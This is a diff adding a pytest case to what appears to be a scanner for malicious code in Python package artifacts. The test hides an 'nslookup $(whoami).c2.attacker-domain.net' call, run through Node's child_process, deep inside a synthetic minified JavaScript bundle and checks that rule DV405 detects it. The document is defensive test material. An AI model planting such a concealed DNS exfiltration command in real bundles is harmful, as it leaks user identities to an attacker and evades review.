@@ -362,3 +362,15 @@ def test_public_ip() -> None:
     assert not public_ip("8.8.8.8")  # a public resolver: used to learn the local address
     assert not public_ip("169.254.169.254")
     assert not public_ip("172.16.3.4")
+
+
+@pytest.mark.parametrize(
+    ("command", "found"),
+    [("nslookup $(whoami).c2.attacker-domain.net", True), ("ping localhost", False)],
+)
+def test_dns_lookup_in_a_minified_line(scan_files: ScanFiles, command: str, found: bool) -> None:
+    # A bundle is one line of hundreds of kilobytes; the lookup sits deep inside it.
+    filler = "var a=function(b){return b+1};" * 2000
+    bundle = f'{filler}require("child_process").execSync("{command} ");{filler}\n'
+    result = scan_files({"pkg/__init__.py": "", "pkg/static/app.min.js": bundle}, artifact="wheel")
+    assert ("DV405" in rule_ids(result)) is found
